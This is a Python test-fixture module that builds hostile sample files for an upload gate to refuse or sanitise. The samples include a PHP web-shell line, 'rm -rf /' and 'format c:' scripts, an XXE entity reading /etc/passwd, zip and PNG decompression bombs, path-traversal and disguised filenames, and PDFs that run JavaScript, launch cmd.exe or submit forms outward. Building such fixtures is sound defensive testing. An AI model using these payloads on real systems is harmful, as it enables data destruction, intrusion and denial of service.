"""Files that nobody should get past the gate as they are: each built here, none kept in the repository.

`REFUSED` never come in. `CLEANED` are pictures with something behind or beside them: what comes out shows the
picture only. Every one carries `MARK` where it can, so that a test can look for it in what is kept and served.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

MARK = b"<script>alert('mot-cua')</script>"


def _zip(*names: str, content: bytes = MARK) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, content)
    return out.getvalue()


def _picture(kind: str, size: tuple[int, int] = (64, 48), **words: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, kind, **words)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, *more: bytes, pixels: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [_chunk(b"IHDR", header), *more, _chunk(b"IDAT", zlib.compress(pixels)), _chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def _pdf(change: Callable[[PdfWriter], object] | None = None, pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _dictionary(**words: object) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject(f"/{name}"): NameObject(value) if isinstance(value, str) and value.startswith("/") else value
            for name, value in words.items()
        }
    )


def _on_opening(**action: object) -> bytes:
    return _pdf(lambda writer: writer.root_object.update({NameObject("/OpenAction"): _dictionary(**action)}))


def _with_note(**note: object) -> bytes:
    def change(writer: PdfWriter) -> None:
        rectangle = ArrayObject([NumberObject(one) for one in (0, 0, 9, 9)])
        writer.pages[0][NameObject("/Annots")] = ArrayObject([_dictionary(Type="/Annot", Rect=rectangle, **note)])

    return _pdf(change)


def _root(name: str, value: object) -> bytes:
    return _pdf(lambda writer: writer.root_object.update({NameObject(name): value}))


def _by_hand(*objects: bytes) -> bytes:
    """A PDF of these numbered objects with a true table of where they are."""
    body, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    trailer = b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, len(body))
    return body + table + trailer


_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_PAGES = b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
_SCRIPT = TextStringObject("app.alert(1)")


def _packed_script() -> bytes:
    from tests.dossiers.rules.test_documents import packed

    return packed("app.alert(1)")


def _heavy_pack() -> bytes:
    """A stream of objects that unpacks to a quarter of a gigabyte."""
    squeezed = zlib.compress(b"0" * (1 << 28), 9)
    pack = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >> stream\n%s\nendstream"
    body = b"%PDF-1.5\n"
    places = []
    for number, content in enumerate((_CATALOG, _PAGES, _PAGE, pack % (len(squeezed), squeezed)), 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    rows = [(0, 0, 0), *[(1, place, 0) for place in places], (1, len(body), 0), (2, 4, 0)]
    cells = b"".join(struct.pack(">BIB", *row) for row in rows)
    table = len(body)
    body += b"5 0 obj << /Type /XRef /W [1 4 1] /Size 7 /Root 1 0 R /Length %d >> stream\n" % len(cells)
    return body + cells + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % table


def _attached() -> bytes:
    def change(writer: PdfWriter) -> None:
        writer.add_attachment("macro.exe", b"MZ" + MARK)

    return _pdf(change)


def _endless_previous() -> bytes:
    """A table that names itself as the one before it, and a page that is its own parent's parent."""
    made = _by_hand(
        _CATALOG, b"<< /Type /Pages /Count 1 /Kids [3 0 R] /Parent 3 0 R >>", b"<< /Type /Pages /Kids [2 0 R] >>"
    )
    return made.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % made.index(b"xref\n0"))


def _encrypted() -> bytes:
    return _pdf(lambda writer: writer.encrypt("x", algorithm="RC4-128"))


def _many_frames() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (64, 48), (number, 0, 0)) for number in range(60)]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue() + MARK


REFUSED: dict[str, Callable[[], bytes]] = {
    # Programs
    "anh.exe": lambda: b"MZ\x90\x00" + bytes(600) + MARK,
    "anh.jpg": lambda: b"MZ\x90\x00\x03" + bytes(700) + MARK,
    "giay.elf": lambda: b"\x7fELF\x02\x01\x01" + bytes(600) + MARK,
    "giay.sh": lambda: b"#!/bin/sh\nrm -rf /\n" + MARK,
    "giay.bat": lambda: b"@echo off\r\nformat c:\r\n" + MARK,
    "giay.ps1": lambda: b"Invoke-Expression $x # " + MARK,
    "Lop.class": lambda: b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(200) + MARK,
    "giay.jar": lambda: _zip("META-INF/MANIFEST.MF", "A.class"),
    "giay.apk": lambda: _zip("AndroidManifest.xml", "classes.dex"),
    "giay.wasm": lambda: b"\x00asm\x01\x00\x00\x00" + MARK,
    "giay.php": lambda: b"<?php system($_GET['c']); ?>" + MARK,
    "giay.py": lambda: b"import os\n" + MARK,
    "giay.lnk": lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(100) + MARK,
    # Pages of the web, and what looks like a picture to a browser
    "giay.html": lambda: b"<!doctype html><html>" + MARK,
    "giay.xhtml": lambda: b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'>" + MARK,
    "giay.svg": lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + MARK + b"</svg>",
    "svg-la-anh.png": lambda: b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>" + MARK,
    "xxe.xml": lambda: b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>" + MARK,
    "giay.mht": lambda: b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + MARK,
    "giay.js": lambda: b"fetch('/ho-so-cua-toi/')//" + MARK,
    "giay.css": lambda: b"@import 'https://x.example'; /*" + MARK + b"*/",
    "giay.swf": lambda: b"CWS\x0a" + bytes(100) + MARK,
    # Office papers and archives
    "don.doc": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + MARK,
    "don.docx": lambda: _zip("[Content_Types].xml", "word/document.xml"),
    "don.docm": lambda: _zip("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"),
    "bang.xlsm": lambda: _zip("[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin"),
    "don.odt": lambda: _zip("mimetype", "content.xml"),
    "don.rtf": lambda: b"{\\rtf1{\\object\\objocx " + MARK + b"}}",
    "giay.zip": lambda: _zip("giay.pdf"),
    "bom.zip": lambda: _zip("bom.txt", content=bytes(30_000_000)),
    "bom-trong-bom.zip": lambda: _zip("bom.zip", content=_zip("bom.txt", content=bytes(3_000_000))),
    "thoat.zip": lambda: _zip("../../etc/cron.d/x"),
    "giay.rar": lambda: b"Rar!\x1a\x07\x01\x00" + bytes(100) + MARK,
    "giay.7z": lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(100) + MARK,
    "giay.tar.gz": lambda: b"\x1f\x8b\x08\x00" + bytes(100) + MARK,
    "giay.tar": lambda: b"a".ljust(257, b"\0") + b"ustar\x0000" + bytes(300) + MARK,
    # Other pictures and sound
    "anh.gif": lambda: _picture("GIF") + MARK,
    "gif-la.jpg": lambda: _picture("GIF", (9, 9)) + MARK,
    "anh.webp": lambda: _picture("WEBP"),
    "anh.tiff": lambda: _picture("TIFF"),
    "anh.bmp": lambda: _picture("BMP"),
    "anh.ico": lambda: _picture("ICO"),
    "anh.psd": lambda: b"8BPS\x00\x01" + bytes(200),
    "anh.heic": lambda: b"\x00\x00\x00\x18ftypheic" + bytes(400),
    "phim.mp4": lambda: b"\x00\x00\x00\x18ftypmp42" + bytes(400) + MARK,
    "loi.mp3": lambda: b"ID3\x03\x00" + bytes(400) + MARK,
    "anh.eps": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n" + MARK,
    # Pictures that break or drown the reader
    "cut.jpg": lambda: _picture("JPEG")[:120],
    "cut.png": lambda: _picture("PNG")[:60],
    "lut.png": lambda: _png(65_000, 65_000),
    "lut-am.png": lambda: _png(2**31 - 1, 2**31 - 1),
    "khong.png": lambda: _png(0, 0),
    "thieu-diem.png": lambda: _png(3000, 3000, pixels=b"\0" * 10),
    "sai-tong.png": lambda: _picture("PNG").replace(b"IDAT", b"IDAt", 1),
    "bom-chu.png": lambda: _png(
        8, 8, *[_chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(60_000_000), 9))] * 2, pixels=bytes(200)
    ),
    "rac.jpg": lambda: b"\xff\xd8\xff\xe0" + b"\xff" * 4000,
    "chi-dau.jpg": lambda: b"\xff\xd8\xff",
    "nhieu-khung.png": _many_frames,
    # PDF that runs, calls, hides or locks
    "ma.pdf": lambda: _on_opening(S="/JavaScript", JS=_SCRIPT),
    "ma-thoat.pdf": lambda: _by_hand(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >> >>", _PAGES, _PAGE
    ),
    "ma-ngan.pdf": lambda: _root("/Names", _dictionary(JS=_SCRIPT)),
    "ma-goi.pdf": _packed_script,
    "chay.pdf": lambda: _on_opening(S="/Launch", F=TextStringObject("cmd.exe")),
    "gui-di.pdf": lambda: _on_opening(S="/SubmitForm", F=TextStringObject("https://x.example")),
    "nhap-ve.pdf": lambda: _on_opening(S="/ImportData", F=TextStringObject("x.fdf")),
    "sang-tep-khac.pdf": lambda: _on_opening(S="/GoToR", F=TextStringObject("\\\\x.example\\a.pdf")),
    "vao-tep-kem.pdf": lambda: _on_opening(S="/GoToE"),
    "phim.pdf": lambda: _on_opening(S="/Rendition"),
    "kem.pdf": _attached,
    "kem-o-trang.pdf": lambda: _with_note(Subtype="/FileAttachment"),
    "kem-phim.pdf": lambda: _with_note(Subtype="/RichMedia"),
    "ba-chieu.pdf": lambda: _with_note(Subtype="/3D"),
    "khi-mo-trang.pdf": lambda: _pdf(
        lambda writer: writer.pages[0].update({NameObject("/AA"): _dictionary(O=_dictionary(S="/Named"))})
    ),
    "xfa.pdf": lambda: _root("/AcroForm", _dictionary(XFA=DecodedStreamObject())),
    "mat-khau.pdf": _encrypted,
    "khong-trang.pdf": lambda: _pdf(pages=0),
    "rong.pdf": lambda: b"%PDF-1.7\n",
    "rac.pdf": lambda: b"%PDF-1.7\n" + b"x" * 900,
    "html-la.pdf": lambda: b"%PDF-1.4\n" + MARK * 20,
    "vong-trang.pdf": lambda: _by_hand(_CATALOG, b"<< /Type /Pages /Count 1 /Kids [2 0 R] >>"),
    "vong-bang.pdf": _endless_previous,
    "sau.pdf": lambda: _by_hand(_CATALOG, _PAGES, _PAGE, b"[" * 40_000 + b"]" * 40_000),
    "nhieu-trang.pdf": lambda: _pdf(pages=501),
    "bom.pdf": _heavy_pack,
    # Sizes
    "khong-co-gi.jpg": lambda: b"",
    "qua-lon.jpg": lambda: _picture("JPEG") + bytes(50 * 1024 * 1024),
}


def _commented(kind: str) -> bytes:
    return _picture(kind, comment=MARK) if kind == "JPEG" else _png_with_text()


def _png_with_text() -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", MARK.decode())
    return _picture("PNG", pnginfo=notes)


def _with_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = MARK.decode()
    exif.get_ifd(0x8825)[1] = "N"
    return _picture("JPEG", exif=exif.tobytes())


CLEANED: dict[str, Callable[[], bytes]] = {
    "anh-va-zip.jpg": lambda: _picture("JPEG") + _zip("a.exe") + MARK,
    "anh-va-html.png": lambda: _picture("PNG") + MARK,
    "anh-va-php.jpg": lambda: _picture("JPEG") + b"<?php echo 1 ?>" + MARK,
    "ghi-chu.jpg": lambda: _commented("JPEG"),
    "ghi-chu.png": lambda: _commented("PNG"),
    "noi-chup.jpg": _with_exif,
    "mau-la.jpg": lambda: _picture("JPEG", icc_profile=MARK * 50),
    "../../../etc/cron.d/anh.jpg": lambda: _picture("JPEG") + MARK,
    "anh\x00\u202egpj.exe": lambda: _picture("JPEG") + MARK,
    "con.aux .jpg": lambda: _picture("JPEG") + MARK,
    "a" * 5000 + ".png": lambda: _picture("PNG") + MARK,
}


@cache
def content_of(name: str) -> bytes:
    """The bytes of one of the files, built once."""
    return (REFUSED.get(name) or CLEANED[name])()
